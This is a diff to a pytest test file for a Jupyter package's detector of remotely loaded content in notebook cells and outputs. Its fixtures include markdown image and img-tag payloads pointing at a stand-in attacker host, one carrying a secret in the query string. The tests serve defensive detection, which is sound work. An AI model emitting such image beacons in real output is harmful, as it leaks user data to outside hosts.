@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import json
 import time
+from typing import Any
 
 import pytest
 
-from jupyter_eca.workspace.notebooks.loaded_content import find_loaded
+from jupyter_eca.workspace.notebooks.loaded_content import find_loaded, find_loaded_in_file
 
 LOADS = {
     "![](http://evil.org/a?q=SECRET)": "http://evil.org/a?q=SECRET",
@@ -129,3 +131,26 @@ def test_a_huge_cell_takes_no_time(piece: str) -> None:
     begun = time.monotonic()
     find_loaded(f"<b>{piece * (60_000 // len(piece))}!")
     assert time.monotonic() - begun < 5
+
+
+PICTURE = "![](https://evil.org/a)"
+FILES: list[tuple[dict[str, Any], str | None]] = [
+    ({"cells": [{"cell_type": "markdown", "source": PICTURE}], "nbformat": 4}, "https://evil.org/a"),
+    ({"cells": [{"cell_type": "markdown", "source": ["![](ht", "tps://evil.org/a)"]}]}, "https://evil.org/a"),
+    ({"cells": [{"outputs": [{"data": {"text/html": ["<img src=//evil.org/a>"]}}]}]}, "//evil.org/a"),
+    ({"worksheets": [{"cells": [{"cell_type": "heading", "source": PICTURE}]}], "nbformat": 3}, "https://evil.org/a"),
+    ({"cells": [{"cell_type": "markdown", "source": ["# Title\n", "[a](https://example.org)"]}]}, None),
+    ({"cells": [{"cell_type": "code", "source": "x = 1 < 2"}], "metadata": {"kernelspec": {"name": "python3"}}}, None),
+]
+
+
+@pytest.mark.parametrize(("book", "found"), FILES)
+def test_what_a_notebook_file_would_load_is_found_in_its_cells_and_outputs(
+    book: dict[str, Any], found: str | None
+) -> None:
+    assert find_loaded_in_file(json.dumps(book)) == found
+
+
+@pytest.mark.parametrize("text", ["", "{", PICTURE, "[" * 100_000])
+def test_a_file_that_jupyter_cannot_open_loads_nothing(text: str) -> None:
+    assert find_loaded_in_file(text) is None
